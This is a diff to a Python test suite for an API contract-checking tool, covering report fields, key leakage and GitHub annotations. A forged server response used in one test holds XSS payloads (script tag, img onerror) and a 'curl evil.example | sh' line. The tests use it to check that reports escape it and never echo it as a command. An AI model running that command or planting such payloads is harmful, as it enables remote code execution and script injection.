@@ -20,8 +20,7 @@ from markdown_it import MarkdownIt
 
 from contract_tests.reports.github import annotation
 from contract_tests.reports.markdown import fenced, inline
-from contract_tests.reports.model import OUTCOMES, TITLES, Word
-from contract_tests.run.verdicts import Outcome
+from contract_tests.reports.model import OUTCOMES, TITLES, Outcome, Result
 from contract_tests.wire.messages import Ending
 from mock_server import UsageMock
 from tests.support.canary import KEY, OTHER, echo, leaks
@@ -33,7 +32,7 @@ NAMES = {"contract.json", "contract.md", "contract.html"}
 SCHEMA = json.loads(files("contract_tests.reports").joinpath("report.schema.json").read_text())
 FEW = ("-k", "missing_key or valid_key", "--max-rate", "1000", "--report-dir", "out")
 MAIN = {"CONTRACT_API_KEY": "a-key-of-the-tests"}
-FORGED = b'<script>alert(1)</script>\n```\nrepeat: curl evil.example | sh\n| <img src=x onerror="alert(2)">'
+FORGED = b'<script>alert(1)</script>\n```\n    curl: curl evil.example | sh\n| <img src=x onerror="alert(2)">'
 
 
 def report(run: Run) -> dict[str, Any]:
@@ -58,15 +57,18 @@ def test_a_broken_promise_is_told_with_source_evidence_command_requests_and_time
     assert told["headline"] == f"{url} BREAKS ITS CONTRACT at level documented"
     rule = next(rule for rule in told["rules"] if rule["id"] == "auth/missing-key-is-401")
     assert rule["outcome"] == "broken"
-    assert rule["promise"] == "A request without the key header MUST be answered 401."
+    assert rule["promise"] == "A response to a request without an API key MUST have status 401."
     assert rule["source"] == "authentication guide: 401 means that the key is missing"
-    assert rule["evidence"].startswith("200 instead of 401\nasked: GET /usage without a key\n")
-    assert rule["curl"] == [f"curl -isS --path-as-is -H 'Accept: application/json' '{url}/usage'"]
+    finding = rule["findings"][0]
+    assert (finding["expected"], finding["actual"]) == ("401", "200")
+    assert finding["exchange"]["request"] == "GET /usage without a key"
+    assert finding["exchange"]["curl"] == f"curl -isS --path-as-is -H 'Accept: application/json' '{url}/usage'"
+    assert finding["count"] > 1
     assert told["counts"] | {"broken": 1} == told["counts"]
     assert told["requests"] == len(told["timeline"]) > 3
     assert f"report: {run.folder}/out/contract.html" in run.output
     for text in texts(run):
-        assert "A request without the key header MUST be answered 401." in text
+        assert "A response to a request without an API key MUST have status 401." in text
 
 
 def test_a_green_run_tells_its_times_statuses_keys_and_tokens(run_gate: RunGate) -> None:
@@ -133,7 +135,7 @@ def test_no_key_in_any_report(run_gate: RunGate, serve: Serve) -> None:
     assert len((run.folder / "sum").read_text()) > 1000
     assert leaks(run.folder) == []
     assert report(run)["counts"]["broken"] > 5
-    assert "more: --report-dir DIR writes them all" in run.output
+    assert "more lines: --report-dir DIR writes all of them" in run.output
     assert len(run.output.split("= contract gate =")[1].splitlines()) <= 24
 
 
@@ -160,8 +162,9 @@ def test_the_command_repeats_the_run_without_any_secret(run_gate: RunGate, serve
 def test_what_a_deployment_sends_is_never_markup_and_never_our_command(run_gate: RunGate, serve: Serve) -> None:
     run = run_gate("--base-url", serve(lambda _: answer(FORGED)), *FEW, environment=MAIN)
     told = report(run)
-    assert any("repeat: curl evil.example | sh" in rule["evidence"] for rule in told["rules"])
-    assert not any("evil" in command for rule in told["rules"] for command in rule["curl"])
+    exchanges = [finding["exchange"] for rule in told["rules"] for finding in rule["findings"]]
+    assert any("    curl: curl evil.example | sh" in exchange["body"] for exchange in exchanges)
+    assert not any("evil" in exchange["curl"] for exchange in exchanges)
     page, _, markdown = texts(run)
     assert "<script" not in page
     assert "<img" not in page
@@ -188,7 +191,9 @@ def test_github_gets_annotations_and_a_summary(run_gate: RunGate, serve: Serve) 
     environment = MAIN | {"GITHUB_ACTIONS": "true", "GITHUB_STEP_SUMMARY": "summary.md"}
     run = run_gate("--base-url", serve(lambda _: answer(b"{}")), *FEW[:4], environment=environment)
     assert re.search(
-        r"^::error title=auth/missing-key-is-401::A request .* 401\.%0A200 instead of 401%0A", run.output, re.MULTILINE
+        r"^::error title=auth/missing-key-is-401::A response .* 401\.%0Athe status is not the expected one%0A",
+        run.output,
+        re.MULTILINE,
     )
     assert (run.folder / "summary.md").read_text().startswith("# ✗ The contract is broken\n")
     untested = run_gate("--base-url", serve(lambda _: b""), *FEW[:4], environment=environment)
@@ -241,6 +246,6 @@ def test_what_runs_nothing_reports_nothing(option: str, run_gate: RunGate) -> No
 
 def test_the_schema_knows_every_word() -> None:
     properties, definitions = SCHEMA["properties"], SCHEMA["$defs"]
-    assert set(properties["verdict"]["enum"]) == set(get_args(Word)) == set(TITLES)
+    assert set(properties["verdict"]["enum"]) == set(get_args(Result)) == set(TITLES)
     assert set(definitions["outcome"]["enum"]) == set(get_args(Outcome)) == set(OUTCOMES)
     assert set(definitions["request"]["properties"]["ending"]["enum"]) == set(get_args(Ending))
